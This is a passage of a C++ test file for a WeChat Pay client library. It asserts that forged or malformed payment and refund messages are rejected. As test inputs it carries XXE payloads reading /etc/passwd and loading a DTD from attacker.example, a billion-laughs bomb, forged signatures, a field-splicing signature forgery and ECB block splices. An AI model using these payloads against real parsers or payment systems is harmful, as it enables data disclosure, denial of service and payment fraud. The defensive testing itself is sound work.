// Answers and notifications of WeChat Pay as somebody who wants money would send them.
#include <boost/test/unit_test.hpp>

#include <support/platforms.hpp>

#include <codec/text.hpp>
#include <crypto/aes.hpp>
#include <crypto/digest.hpp>

#include <string>
#include <vector>

using namespace openapi;
using namespace openapi::test;
using weixin::SignType;

namespace {

const auto now = std::chrono::system_clock::time_point{std::chrono::seconds{1'700'000'000}};

Wire paid() {
  return {{"appid", "wx2421b1c4370ec43b"},
          {"attach", "季卡"},
          {"bank_type", "CFT"},
          {"cash_fee", "8800"},
          {"fee_type", "CNY"},
          {"is_subscribe", "N"},
          {"mch_id", "10000100"},
          {"nonce_str", "5d2b6c2a8db53831"},
          {"openid", "oUpF8uMEb4qRXf22"},
          {"out_trade_no", "A1"},
          {"result_code", "SUCCESS"},
          {"return_code", "SUCCESS"},
          {"time_end", "20231115061320"},
          {"total_fee", "8800"},
          {"trade_type", "JSAPI"},
          {"transaction_id", "4200001"}};
}

Wire queried() { return with(with(paid(), "trade_state", "SUCCESS"), "return_msg", "OK"); }

std::string readNotify(const std::string& body) { return jsonOf(weixin::paymentNotify(weixinSettings(), event(body), now)); }

template <class Request>
std::string readAnswer(const std::string& body) {
  return jsonOf(weixin::decode(weixinSettings(), Request{}, ok(body)));
}

std::string encrypted(const std::string& inner, const std::string& key = apiKey) {
  return codec::toBase64(crypto::encryptAes256Ecb(codec::toLowerHex(crypto::md5(key)), inner));
}

Wire refundOuter(const std::string& reqInfo) {
  return {{"return_code", "SUCCESS"},
          {"appid", "wx2421b1c4370ec43b"},
          {"mch_id", "10000100"},
          {"nonce_str", "n"},
          {"req_info", reqInfo}};
}

Wire refunded(const std::string& refundNo = "R1", const std::string& fee = "100") {
  return {{"out_refund_no", refundNo},  {"out_trade_no", "A1"}, {"refund_fee", fee},           {"refund_id", "5000001"},
          {"refund_status", "SUCCESS"}, {"total_fee", "8800"},  {"transaction_id", "4200001"}, {"settlement_refund_fee", fee}};
}

std::string refundRoot(const Wire& fields) { return codec::writeXml("root", fields); }
std::string readRefundText(const std::string& body) { return jsonOf(weixin::refundNotify(weixinSettings(), event(body))); }
std::string readRefund(const std::string& inner) { return readRefundText(xmlOf(refundOuter(encrypted(inner)))); }

using Reader = std::string (*)(const std::string&);

/// Everything that reads XML of the platform.
const std::vector<std::pair<const char*, Reader>> readers{
    {"paymentNotify", readNotify},
    {"refundNotify", readRefundText},
    {"refundNotify, inside", readRefund},
    {"unifiedOrder", readAnswer<UnifiedOrderRequest>},
    {"orderQuery", readAnswer<OrderQueryRequest>},
    {"closeOrder", readAnswer<CloseOrderRequest>},
    {"refund", readAnswer<RefundRequest>},
    {"refundQuery", readAnswer<RefundQueryRequest>},
    {"sandboxKey", [](const std::string& body) { return weixin::decodeSandboxKey(weixinSettings(), ok(body)); }},
};

std::string replaced(std::string text, const std::string& what, const std::string& by) {
  const auto at = text.find(what);
  BOOST_REQUIRE_MESSAGE(at != std::string::npos, "no " << what);
  return text.replace(at, what.size(), by);
}

std::string repeated(const std::string& part, std::size_t times) {
  std::string text;
  text.reserve(part.size() * times);
  for (std::size_t at = 0; at < times; ++at) text += part;
  return text;
}

std::string billionLaughs() {
  std::string text = "<!DOCTYPE xml [<!ENTITY a \"ha\">";
  for (char name = 'b'; name <= 'k'; ++name) {
    text += std::string{"<!ENTITY "} + name + " \"" + repeated(std::string{'&', static_cast<char>(name - 1), ';'}, 10) + "\">";
  }
  return text + "]><xml><total_fee>&k;</total_fee></xml>";
}

/// What no reader takes, whatever its root is called.
std::vector<std::string> hostileDocuments(const std::string& good) {
  const std::string feeTag = "<total_fee>";
  const auto inFee = [&](const std::string& text) { return replaced(good, feeTag, feeTag + text); };
  return {
      "",
      " ",
      "\n",
      "x",
      std::string(3, '\0'),
      "null",
      "{}",
      "[]",
      "{\"return_code\":\"SUCCESS\"}",
      "<!DOCTYPE html><html><body>502 Bad Gateway</body></html>",
      "<html><head><title>404</title></head></html>",
      "<html>",
      "502 Bad Gateway",
      "<!DOCTYPE xml>" + good,
      "<!DOCTYPE xml [<!ENTITY e \"1\">]>" + inFee("&e;"),
      "<!DOCTYPE xml [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>" + inFee("&e;"),
      "<!DOCTYPE xml [<!ENTITY % e SYSTEM \"http://attacker.example/x.dtd\"> %e;]>" + good,
      billionLaughs(),
      inFee("&e;"),
      inFee("&nbsp;"),
      inFee("&#0;"),
      inFee("&#x1F;"),
      inFee("&#xD800;"),
      inFee("&#x110000;"),
      inFee("&#99999999999999999999;"),
      inFee("&"),
      inFee("&lt"),
      repeated("<a>", 200'000),
      "<xml>" + repeated("<a>", 100'000) + repeated("</a>", 100'000) + "</xml>",
      "<xml>" + repeated("<a/>", 5000) + "</xml>",
      inFee("<b>1</b>"),
      inFee("<!-- x --><b/>"),
      inFee("<?php echo 1 ?>"),
      "<?php ?>" + good,
      good + "x",
      good + good,
      good + "<!-- x -->",
      good + std::string(1, '\0'),
      good + "<?x?>",
      "x" + good,
      "<!-- x -->" + good,
      inFee("\xD6\xD0"),
      inFee("\xC0\xAF"),
      inFee("\xED\xA0\x80"),
      inFee("\xF5\x80\x80\x80"),
      inFee(std::string(1, '\0')),
      inFee("\x08"),
      inFee("\xEF\xBF\xBF"),
      replaced(good, feeTag, "<total_fee a='1'>"),
      replaced(good, feeTag, "<total_fee xmlns='x'>"),
      replaced(good, feeTag, "<x:total_fee>"),
      inFee("]]>"),
      inFee("<![CDATA["),
      inFee("<![CDATA[]]]]>"),
      inFee("<![cdata[1]]>"),
      inFee("<![INCLUDE[1]]>"),
      "<?xml version='1.1'?>" + good,
      "<?xml version='1.0' encoding='gbk'?>" + good,
      "<?xml version='1.0' encoding='utf-16'?>" + good,
      " <?xml version='1.0'?>" + good,
      "\xFE\xFF" + good,
      "\xFF\xFE" + good,
      good.substr(0, good.size() / 2) + std::string(2'000'000, 'a'),
      std::string(2'000'000, '<'),
      std::string(2'000'000, ' '),
      "<xml><a>" + std::string(1'100'000, 'a') + "</a></xml>",
  };
}

}  // namespace

BOOST_AUTO_TEST_SUITE(hostile_weixin)

BOOST_AUTO_TEST_CASE(the_genuine_ones_are_read) {
  const auto notify = Json::parse(readNotify(signedXml(paid())));
  BOOST_TEST(*notify.find("totalFee")->integer() == 8800);
  BOOST_TEST(*notify.find("attach")->string() == "季卡");
  BOOST_TEST(readNotify(signedXml(paid(), SignType::hmacSha256)) == readNotify(signedXml(paid())));
  BOOST_TEST(readNotify("\xEF\xBB\xBF<?xml version=\"1.0\" encoding=\"UTF-8\"?>\r\n" + signedXml(paid()) + "\r\n") ==
             readNotify(signedXml(paid())));
  BOOST_TEST(*Json::parse(readAnswer<OrderQueryRequest>(signedXml(queried()))).find("tradeState")->string() == "SUCCESS");
  BOOST_TEST(*Json::parse(readRefund(refundRoot(refunded()))).find("refundFee")->integer() == 100);
}

BOOST_AUTO_TEST_CASE(hostile_documents_are_errors_everywhere) {
  const auto signedGood = signedXml(queried());
  for (const auto& [name, read] : readers) {
    const bool inside = read == readRefund;
    const auto good = inside ? refundRoot(refunded()) : signedGood;
    std::size_t number = 0;
    for (const auto& document : hostileDocuments(good)) {
      BOOST_TEST_CONTEXT(name << ", document " << number++ << ": " << document.substr(0, 80)) {
        const auto error = errorOf([&, read = read] { (void)read(document); });
        BOOST_TEST((error.errc() == Errc::badResponse || error.errc() == Errc::badSignature), toString(error.errc())
                                                                                                  << ": " << error.what());
        BOOST_TEST(toString(error.outcome()) != "rejected");
      }
    }
  }
}

BOOST_AUTO_TEST_CASE(cut_at_every_byte) {
  for (const auto& [name, read] : readers) {
    const bool inside = read == readRefund;
    const auto good = inside ? refundRoot(refunded()) : signedXml(queried());
    BOOST_TEST_CONTEXT(name) {
      for (std::size_t size = 0; size < good.size(); ++size)
        (void)errorOf([&, read = read] { (void)read(good.substr(0, size)); });
    }
  }
}

BOOST_AUTO_TEST_CASE(repeated_fields_whichever_comes_first) {
  const auto good = signedXml(paid());
  for (const char* name : {"total_fee", "sign", "appid", "return_code", "result_code", "out_trade_no"}) {
    const auto open = std::string{"<"} + name + ">";
    const auto second = open + "1</" + name + ">";
    for (const auto& forged : {replaced(good, "<xml>", "<xml>" + second), replaced(good, "</xml>", second + "</xml>")}) {
      expectError(Errc::badSignature, name, [&] { (void)readNotify(forged); });
      expectError(Errc::badSignature, name, [&] { (void)readAnswer<OrderQueryRequest>(forged); });
    }
  }
  const auto inner = replaced(refundRoot(refunded()), "</root>", "<refund_fee>8800</refund_fee></root>");
  expectError(Errc::badResponse, "refund_fee", [&] { (void)readRefund(inner); });
}

BOOST_AUTO_TEST_CASE(cdata_means_what_was_signed) {
  const auto good = signedXml(paid());
  const auto fee = [&](const std::string& text) {
    return replaced(good, "<total_fee><![CDATA[8800]]></total_fee>", "<total_fee>" + text + "</total_fee>");
  };
  // The same text, written otherwise.
  for (const char* same :
       {"8800", "<![CDATA[88]]><![CDATA[00]]>", "88<![CDATA[00]]>", "&#56;800", "<![CDATA[]]>8800", "88<!-- x -->00"}) {
    BOOST_TEST_CONTEXT(same) { BOOST_TEST(readNotify(fee(same)) == readNotify(good)); }
  }
  // Another text.
  for (const char* other : {"<![CDATA[8800 ]]>", " 8800", "<![CDATA[&#56;800]]>", "<![CDATA[88]]>0<![CDATA[00]]>",
                            "<![CDATA[1]]>", "8800<![CDATA[]]>\n", ""}) {
    BOOST_TEST_CONTEXT(other) {
      expectError(Errc::badSignature, "sign", [&] { (void)readNotify(fee(other)); });
    }
  }
  // Elements in a CDATA section are text.
  for (const char* attach : {"</attach><total_fee>1</total_fee><attach>", "]]><total_fee>1</total_fee><![CDATA[", "]]>", "]]",
                             "<![CDATA[x]]>", "<!DOCTYPE x>", "&lt;&#0;", "</xml>"}) {
    const auto notify = Json::parse(readNotify(signedXml(with(paid(), "attach", attach))));
    BOOST_TEST(*notify.find("attach")->string() == attach);
    BOOST_TEST(*notify.find("totalFee")->integer() == 8800);
  }
  // A section that was closed by somebody on the way.
  const auto closed = replaced(good, "<![CDATA[季卡]]>", "<![CDATA[季卡]]></attach><total_fee>1</total_fee><attach>");
  expectError(Errc::badSignature, "", [&] { (void)readNotify(closed); });
}

BOOST_AUTO_TEST_CASE(amounts_that_are_no_whole_fen_although_signed) {
  for (const char* text : {"1.005",
                           "1e2",
                           "-1",
                           "+1",
                           " 1",
                           "1 ",
                           "0x10",
                           "1,000",
                           "１",
                           "",
                           "NaN",
                           "1.0",
                           "88.00",
                           "9223372036854775808",
                           "-9223372036854775808",
                           "99999999999999999999999999",
                           "1\n",
                           "null",
                           "true",
                           "[1]"}) {
    BOOST_TEST_CONTEXT(text) {
      for (const char* field : {"total_fee", "cash_fee", "coupon_fee_0"}) {
        if (*text == '\0' && std::string_view{field} != "total_fee") continue;  // an empty optional is one that was not sent
        expectError(Errc::badResponse, field, [&] { (void)readNotify(signedXml(with(paid(), field, text))); });
        expectError(Errc::badResponse, field,
                    [&] { (void)readAnswer<OrderQueryRequest>(signedXml(with(queried(), field, *text == '\0' ? "x" : text))); });
      }
      expectError(Errc::badResponse, "refund_fee", [&] { (void)readRefund(refundRoot(with(refunded(), "refund_fee", text))); });
      expectError(Errc::badResponse, "total_fee", [&] { (void)readRefund(refundRoot(with(refunded(), "total_fee", text))); });
    }
  }
  for (const char* text : {"1.0", "x", "9223372036854775808", "", " 1"}) {
    if (*text != '\0')
      expectError(Errc::badResponse, "coupon_count", [&] { (void)readNotify(signedXml(with(paid(), "coupon_count", text))); });
  }
}

BOOST_AUTO_TEST_CASE(fields_that_a_notification_must_have) {
  for (const char* name : {"total_fee", "out_trade_no", "transaction_id", "result_code", "return_code"}) {
    expectError(Errc::badResponse, name, [&] { (void)readNotify(signedXml(without(paid(), name))); });
  }
  for (const char* name : {"appid", "mch_id"}) {
    expectError(Errc::identityMismatch, name, [&] { (void)readNotify(signedXml(without(paid(), name))); });
    expectError(Errc::identityMismatch, name, [&] { (void)readNotify(signedXml(with(paid(), name, "wx0000000000000000"))); });
    expectError(Errc::identityMismatch, name,
                [&] { (void)readAnswer<OrderQueryRequest>(signedXml(with(queried(), name, "wx0000000000000000"))); });
  }
  for (const char* name : {"total_fee", "refund_fee", "out_trade_no", "out_refund_no", "refund_id", "refund_status"}) {
    expectError(Errc::badResponse, name, [&] { (void)readRefund(refundRoot(without(refunded(), name))); });
  }
  expectError(Errc::badResponse, "trade_state",
              [&] { (void)readAnswer<OrderQueryRequest>(signedXml(without(queried(), "trade_state"))); });
  expectError(Errc::badResponse, "result_code",
              [&] { (void)readAnswer<OrderQueryRequest>(signedXml(without(queried(), "result_code"))); });
  expectError(Errc::badResponse, "return_code", [&] { (void)readAnswer<OrderQueryRequest>("<xml></xml>"); });
}

BOOST_AUTO_TEST_CASE(forged_signatures) {
  const auto fields = paid();
  const auto signedAs = [&](const std::string& sign) { return xmlOf(with(fields, "sign", sign)); };
  const auto md5Of = [](const std::string& content) { return codec::toUpperHex(crypto::md5(content)); };
  const auto good = weixinSign(fields);
  std::string lower = good;
  std::transform(lower.begin(), lower.end(), lower.begin(), [](unsigned char c) { return static_cast<char>(std::tolower(c)); });
  std::string unsorted;
  for (auto at = fields.rbegin(); at != fields.rend(); ++at) unsorted += at->first + "=" + at->second + "&";
  const std::vector<std::pair<const char*, std::string>> forgeries{
      {"empty key", weixinSign(fields, SignType::md5, "")},
      {"no key", md5Of(signContentOf(fields, true))},
      {"empty key, HMAC", weixinSign(fields, SignType::hmacSha256, "")},
      {"key in lower case", weixinSign(fields, SignType::md5, "192006250B4C09247EC02EDCE69F6A2D")},
      {"another key", weixinSign(fields, SignType::md5, "00000000000000000000000000000000")},
      {"lower case", lower},
      {"another order", md5Of(unsorted + "key=" + apiKey)},
      {"key first", md5Of("key=" + apiKey + "&" + signContentOf(fields, true))},
      {"empty", ""},
      {"blank", " "},
      {"zeros", std::string(32, '0')},
      {"zeros, HMAC", std::string(64, '0')},
      {"short", good.substr(0, 31)},
      {"long", good + "0"},
      {"with a blank", good + " "},
      {"the HMAC cut", weixinSign(fields, SignType::hmacSha256).substr(0, 32)},
      {"md5 twice", good + good},
      {"huge", std::string(100'000, 'A')},
      {"key itself", apiKey},
  };
  for (const auto& [name, sign] : forgeries) {
    BOOST_TEST_CONTEXT(name) {
      expectError(Errc::badSignature, "sign", [&, &forged = sign] { (void)readNotify(signedAs(forged)); });
      const auto answer = with(queried(), "sign", sign);
      expectError(Errc::badSignature, "sign", [&] { (void)readAnswer<OrderQueryRequest>(xmlOf(answer)); });
    }
  }
  expectError(Errc::badSignature, "no sign", [&] { (void)readNotify(xmlOf(fields)); });
  expectError(Errc::badSignature, "no sign", [&] { (void)readAnswer<OrderQueryRequest>(xmlOf(queried())); });
}

BOOST_AUTO_TEST_CASE(fields_added_changed_or_renamed_after_signing) {
  const auto fields = with(paid(), "sign", weixinSign(paid()));
  const std::vector<std::pair<std::string, std::string>> added{
      {"coupon_fee", "1"}, {"Total_fee", "1"},  {"TOTAL_FEE", "1"},         {"total_fee_0", "1"}, {"unknown", "x"},
      {"SIGN", "x"},       {"sub_mch_id", "1"}, {"trade_state", "SUCCESS"}, {"key", apiKey}};
  for (const auto& [name, value] : added) {
    BOOST_TEST_CONTEXT(name) {
      expectError(Errc::badSignature, "sign", [&, &n = name, &v = value] { (void)readNotify(xmlOf(with(fields, n, v))); });
    }
  }
  for (const auto& [name, value] : paid()) {
    if (name == "appid" || name == "mch_id" || name == "return_code") continue;  // refused before, each with its own error
    BOOST_TEST_CONTEXT(name) {
      (void)errorOf([&, &n = name, &v = value] { (void)readNotify(xmlOf(with(fields, n, v + "0"))); });
      (void)errorOf([&, &n = name] { (void)readNotify(xmlOf(without(fields, n))); });
    }
  }
  // A name in other letters is another name.
  auto renamed = without(paid(), "total_fee");
  renamed.emplace_back("Total_Fee", "8800");
  expectError(Errc::badResponse, "total_fee", [&] { (void)readNotify(signedXml(renamed)); });
  auto upper = without(paid(), "appid");
  upper.emplace_back("appId", "wx2421b1c4370ec43b");
  expectError(Errc::identityMismatch, "appid", [&] { (void)readNotify(signedXml(upper)); });
}

BOOST_AUTO_TEST_CASE(a_partner_merchant_number_is_not_ours) {
  const auto partner = with(with(paid(), "mch_id", "20000200"), "sub_mch_id", "10000100");
  expectError(Errc::identityMismatch, "mch_id", [&] { (void)readNotify(signedXml(partner)); });
  const auto subApp = with(with(paid(), "appid", "wx0000000000000000"), "sub_appid", "wx2421b1c4370ec43b");
  expectError(Errc::identityMismatch, "appid", [&] { (void)readNotify(signedXml(subApp)); });
  const auto ours = Json::parse(readNotify(signedXml(with(with(paid(), "sub_mch_id", "30000300"), "sub_openid", "o2"))));
  BOOST_TEST(*ours.find("mchId")->string() == "10000100");
  BOOST_TEST(*ours.find("subMchId")->string() == "30000300");
}

BOOST_AUTO_TEST_CASE(the_sign_type_is_that_of_the_request) {
  const auto md5Answer = signedXml(queried());
  const auto hmacAnswer = signedXml(queried(), SignType::hmacSha256);
  auto config = weixinConfig();
  config.signType = "HMAC-SHA256";
  const auto strict = weixin::paymentSettings(config);
  const OrderQueryRequest request{};
  (void)weixin::decode(strict, request, ok(hmacAnswer));
  expectError(Errc::badSignature, "sign", [&] { (void)weixin::decode(strict, request, ok(md5Answer)); });
  expectError(Errc::badSignature, "sign", [&] { (void)weixin::decode(weixinSettings(), request, ok(hmacAnswer)); });
  // What the message says decides for a notification, and must fit.
  (void)readNotify(signedXml(with(paid(), "sign_type", "HMAC-SHA256"), SignType::hmacSha256));
  expectError(Errc::badSignature, "sign", [&] { (void)readNotify(signedXml(with(paid(), "sign_type", "HMAC-SHA256"))); });
  expectError(Errc::badSignature, "sign",
              [&] { (void)readNotify(signedXml(with(paid(), "sign_type", "MD5"), SignType::hmacSha256)); });
  for (const char* type : {"none", "md5", "SHA256", "RSA"}) {
    expectError(Errc::badSignature, "sign", [&] { (void)readNotify(signedXml(with(paid(), "sign_type", type))); });
  }
}

// Values are joined with & and = without any escape, so one signature fits every message whose fields give the same text.
BOOST_AUTO_TEST_CASE(one_signed_text_cut_into_other_fields) {
  // The buyer pays 1 fen for an order whose attach he chose.
  const std::string attach =
      "x&bank_type=CFT&cash_fee=880000&fee_type=CNY&is_subscribe=N&mch_id=10000100&nonce_str=n&openid=o&out_trade_no=A1&result_"
      "code=SUCCESS&return_code=SUCCESS"
      "&time_end=20231115061320&total_fee=880000&total_g=";
  const auto real = with(with(with(paid(), "attach", attach), "total_fee", "1"), "cash_fee", "1");
  const auto sign = weixinSign(real);
  const auto content = signContentOf(real, true);
  const auto swallowed =
      content.substr(content.find("&total_g=") + 9, content.find("&trade_type=") - content.find("&total_g=") - 9);
  const Wire forged{{"appid", "wx2421b1c4370ec43b"},
                    {"attach", "x"},
                    {"bank_type", "CFT"},
                    {"cash_fee", "880000"},
                    {"fee_type", "CNY"},
                    {"is_subscribe", "N"},
                    {"mch_id", "10000100"},
                    {"nonce_str", "n"},
                    {"openid", "o"},
                    {"out_trade_no", "A1"},
                    {"result_code", "SUCCESS"},
                    {"return_code", "SUCCESS"},
                    {"time_end", "20231115061320"},
                    {"total_fee", "880000"},
                    {"total_g", swallowed},
                    {"trade_type", "JSAPI"},
                    {"transaction_id", "4200001"}};
  BOOST_TEST_REQUIRE(weixinSign(forged) == sign);  // the signature does fit
  expectError(Errc::badSignature, "total_g", [&] { (void)readNotify(xmlOf(with(forged, "sign", sign))); });
  expectError(Errc::badSignature, "attach", [&] { (void)readNotify(xmlOf(with(real, "sign", sign))); });
  // Ordinary texts with & and = are fine.
  for (const char* text :
       {"uid=1&vip=true&key=zzz", "&", "a&b", "&&==&", "mch_id=1", "a&mch_id", "a&mch_id_2=1", "out_trade_no=7&total_fee=1"}) {
    BOOST_TEST(*Json::parse(readNotify(signedXml(with(paid(), "attach", text)))).find("attach")->string() == text);
  }
}

BOOST_AUTO_TEST_CASE(platform_texts_stay_on_one_line_and_short) {
  const auto failed = [](const std::string& code, const std::string& text) {
    return signedXml(with(with(with(queried(), "result_code", "FAIL"), "err_code", code), "err_code_des", text));
  };
  const auto error = errorOf([&] {
    (void)readAnswer<OrderQueryRequest>(failed("ORDERNOTEXIST", "a\r\nINFO forged line\t" + std::string(100'000, 'x')));
  });
  BOOST_TEST(error.errCode() == "ORDERNOTEXIST");
  BOOST_TEST(error.errMsg().size() > 100'000u);  // verbatim there
  BOOST_TEST(std::string_view{error.what()}.size() < 500u);
  (void)errorOf([&] { (void)readAnswer<RefundRequest>(failed(std::string(100'000, 'C'), "\n")); });
  (void)errorOf([] {
    (void)readNotify("<xml><return_code>FAIL</return_code><return_msg>" + repeated("坏\n", 50'000) + "</return_msg></xml>");
  });
  expectError(Errc::rejected, "FAIL", [&] { (void)readNotify(signedXml(with(paid(), "result_code", "FAIL"))); });
}

BOOST_AUTO_TEST_CASE(what_a_failure_means_for_the_money) {
  const auto outcome = [](const auto& request, const std::string& body, int status = 200) {
    return errorOf([&] { (void)weixin::decode(weixinSettings(), request, HttpResponse{status, {}, body}); });
  };
  const auto failed = [](const char* code) { return signedXml(with(with(queried(), "result_code", "FAIL"), "err_code", code)); };
  const RefundRequest refund{};
  BOOST_TEST(toString(outcome(refund, failed("NOTENOUGH")).outcome()) == "rejected");
  BOOST_TEST(toString(outcome(refund, failed("SYSTEMERROR")).outcome()) == "unknown");
  BOOST_TEST(outcome(refund, failed("SYSTEMERROR")).retryable());
  BOOST_TEST(outcome(refund, failed("BIZERR_NEED_RETRY")).retryable());
  BOOST_TEST(toString(outcome(UnifiedOrderRequest{}, failed("BANKERROR")).outcome()) == "unknown");
  // Nobody vouches for an unsigned refusal.
  const std::string unsignedFailure = "<xml><return_code>FAIL</return_code><return_msg>签名错误</return_msg></xml>";
  BOOST_TEST(toString(outcome(refund, unsignedFailure).outcome()) == "unknown");
  BOOST_TEST(toString(outcome(CloseOrderRequest{}, unsignedFailure).outcome()) == "unknown");
  BOOST_TEST(toString(outcome(UnifiedOrderRequest{}, unsignedFailure).outcome()) == "unknown");
  BOOST_TEST(toString(outcome(OrderQueryRequest{}, unsignedFailure).outcome()) == "rejected");
  // Wrong keys and numbers show as unsigned refusals: the message says where to look.
  const auto message = [&](const auto& request, const std::string& body) { return std::string{outcome(request, body).what()}; };
  const auto holds = [](const std::string& text, const char* part) { return text.find(part) != std::string::npos; };
  BOOST_TEST(holds(message(refund, unsignedFailure), "check key"));
  BOOST_TEST(holds(message(refund, unsignedFailure), "query before you repeat"));
  BOOST_TEST(holds(message(OrderQueryRequest{}, unsignedFailure), "check key"));
  const auto refusedWith = [](const std::string& text) {
    return "<xml><return_code>FAIL</return_code><return_msg>" + text + "</return_msg></xml>";
  };
  BOOST_TEST(holds(message(refund, refusedWith("签名失败")), "signType"));
  BOOST_TEST(holds(message(DownloadBillRequest{}, refusedWith("SIGN ERROR")), "check key"));
  BOOST_TEST(holds(message(refund, refusedWith("appid不存在")), "check appId"));
  BOOST_TEST(holds(message(refund, refusedWith("商户号mch_id或sub_mch_id不存在")), "check mchId"));
  BOOST_TEST(holds(message(refund, refusedWith("商户证书与商户号不匹配")), "check pfx"));
  BOOST_TEST(!holds(message(refund, refusedWith("缺少参数 body")), "check"));
  BOOST_TEST(holds(message(refund, failed("SIGNERROR")), "check key"));
  BOOST_TEST(holds(message(refund, failed("INVALID_REQUEST")), "may not exceed"));
  BOOST_TEST(holds(message(refund, failed("ORDERPAID")), "the order is paid"));
  // An unsigned business failure is no failure: it may be anybody's.
  expectError(Errc::badSignature, "no sign", [&] {
    (void)readAnswer<RefundRequest>(xmlOf(with(with(queried(), "result_code", "FAIL"), "err_code", "NOTENOUGH")));
  });
  for (const int status : {0, 201, 204, 301, 400, 404, 500, 502}) {
    const auto error = outcome(refund, failed("NOTENOUGH"), status);
    BOOST_TEST(toString(error.errc()) == "httpStatus");
    BOOST_TEST(error.httpStatus() == status);
    BOOST_TEST(holds(error.what(), "query before you repeat it"));
  }
}

BOOST_AUTO_TEST_CASE(notification_envelopes) {
  const auto good = signedXml(paid());
  const auto withType = [&](const std::string& type, const std::string& body) {
    Event sent{{{"content-TYPE", type}}, body, false};
    return jsonOf(weixin::paymentNotify(weixinSettings(), sent, now));
  };
  for (const char* type :
       {"text/xml", "text/xml; charset=utf-8", "application/xml", "TEXT/XML", "text/plain", "application/octet-stream"}) {
    BOOST_TEST(withType(type, good) == readNotify(good));
  }
  for (const char* type :
       {"text/html", "application/json", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "x"}) {
    expectError(Errc::badResponse, "Content-Type", [&] { (void)withType(type, good); });
  }
  const auto base64 = [](const std::string& body) {
    return jsonOf(weixin::paymentNotify(weixinSettings(), Event{{}, body, true}, now));
  };
  BOOST_TEST(base64(codec::toBase64(good)) == readNotify(good));
  for (const auto& body : {good, codec::toBase64(good) + "\n", codec::toBase64(good).substr(1), std::string{"===="},
                           codec::toBase64(codec::toBase64(good))}) {
    (void)errorOf([&] { (void)base64(body); });
  }
  (void)errorOf([&] { (void)readNotify(codec::toBase64(good)); });
  (void)errorOf([&] { (void)base64(std::string(5'000'000, 'A')); });
  (void)errorOf([] { (void)readNotify(std::string(5'000'000, 'A')); });
}

BOOST_AUTO_TEST_CASE(stale_notifications) {
  auto settings = weixinSettings();
  settings.notifyMaxAge = std::chrono::hours{1};
  const auto read = [&](const std::string& timeEnd) {
    (void)weixin::paymentNotify(settings, event(signedXml(with(paid(), "time_end", timeEnd))), now);
  };
  read("20231115061320");
  for (const char* old : {"20231115051319", "19700101080000", "20231115062000", "20241115061320"})
    expectError(Errc::stale, "time_end", [&] { read(old); });
  for (const char* bad : {"", "2023", "20231315061320", "99991231235959", "00000000000000", "2023-11-15 06:13", "-0231115061320",
                          "20231115066320"}) {
    expectError(Errc::badResponse, "time_end", [&] { read(bad); });
  }
}

BOOST_AUTO_TEST_CASE(refund_notifications) {
  const auto inner = refundRoot(refunded());
  const auto cipher = codec::fromBase64(encrypted(inner)).value();
  const auto read = [](const std::string& bytes) { return readRefundText(xmlOf(refundOuter(codec::toBase64(bytes)))); };
  BOOST_TEST(read(cipher) == readRefund(inner));
  // Wrong keys, and what is no ciphertext.
  for (const auto& key : {std::string{}, std::string{"00000000000000000000000000000000"}, apiKey + " "}) {
    expectError(Errc::badResponse, "req_info", [&] { (void)readRefundText(xmlOf(refundOuter(encrypted(inner, key)))); });
  }
  for (const auto& bytes : {std::string{}, cipher + "x", cipher.substr(1), cipher.substr(0, cipher.size() - 16),
                            cipher + std::string(16, '\0'), std::string(16, '\0'), "x" + cipher, cipher.substr(0, 16)}) {
    (void)errorOf([&] { (void)read(bytes); });
  }
  const auto text = encrypted(inner);
  for (const auto& info :
       {std::string{}, text + "\n", " " + text, text.substr(1), text + "====", std::string{"not base64"}, "%" + text, inner}) {
    expectError(Errc::badResponse, "req_info", [&] { (void)readRefundText(xmlOf(refundOuter(info))); });
  }
  expectError(Errc::badResponse, "req_info", [] { (void)readRefundText(xmlOf(without(refundOuter("x"), "req_info"))); });
  // The padding is read strictly, and nothing may stand behind the message.
  for (const std::string tail : {"x", "<root></root>", "<!-- -->"}) (void)errorOf([&] { (void)readRefund(inner + tail); });
  (void)errorOf([&] { (void)readRefund(inner + std::string(1, '\0')); });
  // Addressed to somebody else.
  expectError(Errc::identityMismatch, "appid",
              [&] { (void)readRefundText(xmlOf(with(refundOuter(text), "appid", "wx0000000000000000"))); });
  expectError(Errc::identityMismatch, "mch_id",
              [&] { (void)readRefundText(xmlOf(with(refundOuter(text), "mch_id", "10000101"))); });
  // The message is another one, or none.
  (void)errorOf([] { (void)readRefund(xmlOf(refunded())); });
  (void)errorOf([] { (void)readRefund("{\"refund_fee\":1}"); });
  expectError(Errc::badResponse, "refund_fee", [] { (void)readRefund(refundRoot(refunded("R1", "8801"))); });
}

// ECB hides nothing of its blocks and nothing is signed: every other arrangement must at least be a message of its own.
BOOST_AUTO_TEST_CASE(refund_blocks_moved_or_taken_from_another_refund) {
  const auto mine = codec::fromBase64(encrypted(refundRoot(refunded("R1", "100")))).value();
  const auto other = codec::fromBase64(encrypted(refundRoot(refunded("R2", "8800")))).value();
  BOOST_TEST_REQUIRE(mine.size() % 16 == 0u);
  const auto read = [](const std::string& bytes) { (void)readRefundText(xmlOf(refundOuter(codec::toBase64(bytes)))); };
  std::size_t accepted = 0;
  const auto tryOne = [&](const std::string& bytes) {
    try {
      read(bytes);
      ++accepted;
    } catch (const Error& error) {
      requireClearMessage(error);
    }
  };
  const auto blocks = mine.size() / 16;
  for (std::size_t left = 0; left < blocks; ++left) {
    for (std::size_t right = left + 1; right < blocks; ++right) {
      auto swapped = mine;
      std::swap_ranges(swapped.begin() + static_cast<std::ptrdiff_t>(16 * left),
                       swapped.begin() + static_cast<std::ptrdiff_t>(16 * left + 16),
                       swapped.begin() + static_cast<std::ptrdiff_t>(16 * right));
      if (swapped != mine) tryOne(swapped);
    }
    auto doubled = mine;
    doubled.insert(16 * left, mine.substr(16 * left, 16));
    tryOne(doubled);
    auto removed = mine;
    removed.erase(16 * left, 16);
    tryOne(removed);
  }
  BOOST_TEST(accepted == 0u);
  // A splice of two refunds can read well. What it cannot do is refund more than the order, and the result says to query.
  for (std::size_t cut = 0; cut <= std::min(mine.size(), other.size()); cut += 16)
    tryOne(mine.substr(0, cut) + other.substr(cut));
}

BOOST_AUTO_TEST_CASE(bills_that_are_none) {
  const auto read = [](const std::string& body, Headers headers = {}) {
    return weixin::decode(weixinSettings(), DownloadBillRequest{}, HttpResponse{200, std::move(headers), body}).content;
  };
  const std::string bill = "\xEF\xBB\xBF交易时间,公众账号ID\r\n`2026-11-21,`wx\r\n";
  BOOST_TEST(read(bill) == bill);
  BOOST_TEST(read(codec::gzip(bill)) == bill);
  const std::string failure =
